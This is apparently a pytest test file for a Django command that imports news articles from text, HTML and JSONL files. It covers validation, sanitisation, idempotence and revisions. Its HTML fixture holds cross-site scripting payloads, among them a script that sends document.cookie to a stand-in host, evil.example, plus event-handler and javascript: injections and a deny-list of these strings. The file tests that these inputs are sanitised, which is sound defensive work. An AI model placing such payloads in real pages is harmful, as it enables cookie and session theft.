"""`import_articles`: good files, malformed files and lines, hostile HTML, idempotence."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from annotations.models import Article, Claim, Revision
from annotations.text import html_to_text, sanitise_html

pytestmark = pytest.mark.django_db

HOSTILE_HTML = """<!doctype html><html><head><title>Budget story</title>
<meta property="og:site_name" content="City Desk"><meta name="author" content="A. Reporter">
<link rel="canonical" href="https://citydesk.example/budget">
<script>fetch('https://evil.example/'+document.cookie)</script><style>body{display:none}</style></head>
<body><nav>Home | News</nav><article><h1>Budget cuts &amp; the city</h1>
<p onclick="alert(1)">The city cut <b>$12 billion</b> from its budget.<img src=x onerror="alert(2)"></p>
<p>Second <a href="javascript:alert(3)">paragraph</a>.<iframe src="https://evil.example"></iframe></p>
<svg><script>alert(4)</script></svg></article></body></html>"""


def _run(*paths: Path) -> tuple[str, str, int]:
    from io import StringIO

    out, err = StringIO(), StringIO()
    try:
        call_command("import_articles", *map(str, paths), stdout=out, stderr=err)
        code = 0
    except CommandError:
        code = 1
    return out.getvalue(), err.getvalue(), code


def _jsonl(path: Path, *records: object) -> Path:
    path.write_text("\n".join(r if isinstance(r, str) else json.dumps(r) for r in records) + "\n")
    return path


def test_it_imports_a_text_file_with_a_title_from_its_name(tmp_path):
    path = tmp_path / "council-votes-on-rent.txt"
    path.write_text("Line one.\r\nLine two with caf\u0065\u0301.\n", encoding="utf-8")
    out, err, code = _run(path)
    assert code == 0 and "1 created" in out and err == ""
    article = Article.objects.get()
    assert article.title == "Council votes on rent"
    assert article.current_revision is not None
    assert article.current_revision.text == "Line one.\nLine two with café."


def test_html_is_reduced_to_text_and_nothing_hostile_survives(tmp_path):
    path = tmp_path / "budget.html"
    path.write_text(HOSTILE_HTML)
    _, _, code = _run(path)
    assert code == 0
    article = Article.objects.get()
    assert (article.title, article.outlet, article.byline, article.url) == (
        "Budget cuts & the city",
        "City Desk",
        "A. Reporter",
        "https://citydesk.example/budget",
    )
    revision = article.current_revision
    assert revision is not None
    assert revision.text == (
        "Budget cuts & the city\n\nThe city cut $12 billion from its budget.\n\nSecond paragraph."
    )
    for bad in (
        "<script",
        "onclick",
        "onerror",
        "javascript:",
        "<iframe",
        "<style",
        "alert(",
        "document.cookie",
    ):
        assert bad not in revision.html
        assert bad not in revision.text
    assert "<b>$12 billion</b>" in revision.html


def test_html_to_text_keeps_paragraphs_and_line_breaks():
    assert html_to_text("<p>One<br>two</p><ul><li>a</li><li>b</li></ul>") == "One\ntwo\n\na\n\nb"


def test_sanitised_links_cannot_open_the_opener():
    cleaned = sanitise_html('<a href="https://x.example" target="_blank">x</a>')
    assert 'rel="noopener noreferrer nofollow"' in cleaned


def test_jsonl_imports_every_good_line_and_reports_every_bad_one(tmp_path):
    path = _jsonl(
        tmp_path / "batch.jsonl",
        {
            "title": "Good one",
            "url": "https://n.example/1",
            "text": "First text.",
            "outlet": "N",
            "published_at": "2024-02-03T10:00:00+01:00",
            "byline": "B",
        },
        "{not json",
        {"title": "No text", "url": "https://n.example/2"},
        {"title": "Bad url", "url": "ftp://n.example/3", "text": "x"},
        {"title": "Bad date", "text": "x", "published_at": "yesterday"},
        ["not", "an", "object"],
        {"title": "Both", "text": "a", "html": "<p>b</p>"},
        {"title": "Extra", "text": "a", "colour": "red"},
        "",
        {"title": "Good two", "html": "<p>Second <script>x()</script>text.</p>"},
    )
    out, err, code = _run(path)
    assert code == 1
    assert "2 created" in out and "7 failed" in out
    lines = err.strip().splitlines()
    assert [line.split(": ", 1)[0] for line in lines] == [f"{path}:{n}" for n in (2, 3, 4, 5, 6, 7, 8)]
    assert "invalid JSON" in lines[0]
    assert "no text" in lines[1]
    assert "not a valid http(s) URL" in lines[2]
    assert "not an ISO 8601" in lines[3]
    assert "expected an object" in lines[4]
    assert "either text or html" in lines[5]
    assert "unknown field(s): colour" in lines[6]
    assert sorted(Article.objects.values_list("title", flat=True)) == ["Good one", "Good two"]
    good = Article.objects.get(title="Good one")
    assert good.published_at is not None
    assert good.published_at.isoformat() == "2024-02-03T09:00:00+00:00"
    good_two = Article.objects.get(title="Good two").current_revision
    assert good_two is not None
    assert good_two.text == "Second text."


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("notes.docx", b"PK\x03\x04", "unsupported file type .docx"),
        ("latin1.txt", "caf\xe9".encode("latin-1"), "not UTF-8 text"),
        ("empty.txt", b"  \n\n", "the article has no text"),
    ],
)
def test_malformed_files_are_reported_while_the_rest_imports(tmp_path, name, content, reason):
    bad = tmp_path / name
    bad.write_bytes(content)
    good = tmp_path / "good.txt"
    good.write_text("Good text.")
    out, err, code = _run(bad, good)
    assert code == 1
    assert f"{bad}: {reason}" in err
    assert Article.objects.get().title == "Good"


def test_a_missing_path_is_reported(tmp_path):
    _, err, code = _run(tmp_path / "nope.jsonl")
    assert code == 1 and "no such file or folder" in err


def test_importing_the_same_file_twice_adds_nothing(tmp_path):
    path = _jsonl(tmp_path / "a.jsonl", {"title": "T", "url": "https://n.example/t", "text": "Same."})
    _run(path)
    out, _, code = _run(path)
    assert code == 0 and "1 unchanged" in out
    assert (Article.objects.count(), Revision.objects.count()) == (1, 1)


def test_new_content_at_the_same_url_adds_a_revision_and_carries_claims(tmp_path, editor):
    from annotations import services

    path = _jsonl(
        tmp_path / "a.jsonl",
        {"title": "T", "url": "https://n.example/t", "text": "The city took 160,000 people in."},
    )
    _run(path)
    claim = services.create_claim(article=Article.objects.get(), by=editor, exact="160,000 people")
    _jsonl(
        path, {"title": "T", "url": "https://n.example/t", "text": "Update. The city took 160,000 people in."}
    )
    out, _, code = _run(path)
    assert code == 0 and "1 revised" in out and "1 claims moved" in out
    claim.refresh_from_db()
    assert (claim.revision.number, claim.start, claim.exact) == (2, 22, "160,000 people")
    assert Claim.objects.count() == 1


def test_a_folder_is_searched_for_articles(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "one.txt").write_text("One.")
    (tmp_path / "two.html").write_text("<p>Two.</p>")
    (tmp_path / "ignored.md").write_text("# not an article")
    out, _, code = _run(tmp_path)
    assert code == 0 and "2 created" in out


def test_no_break_spaces_become_spaces_so_quotes_typed_by_readers_match(tmp_path):
    path = tmp_path / "nbsp.txt"
    path.write_text("around 160,000 asylum seekers\u00a0since\u00a0April 2022, and 10\u202f000 more.")
    _run(path)
    revision = Article.objects.get().current_revision
    assert revision is not None
    assert revision.text == ("around 160,000 asylum seekers since April 2022, and 10 000 more.")


def test_a_bar_counts_the_articles_on_stderr_with_progress_and_not_without(tmp_path, capsys):
    path = _jsonl(
        tmp_path / "batch.jsonl",
        *({"title": f"Story {n}", "text": f"Story number {n} of the batch."} for n in range(3)),
    )
    call_command("import_articles", "--progress", str(path))
    printed = capsys.readouterr()
    assert "Importing: 3 articles" in printed.err  # read as they are imported: a count, no total
    assert printed.out == "3 created; 0 failed\n"
    out, err, code = _run(path)  # StringIO is no terminal
    assert (err, code) == ("", 0) and "3 unchanged" in out
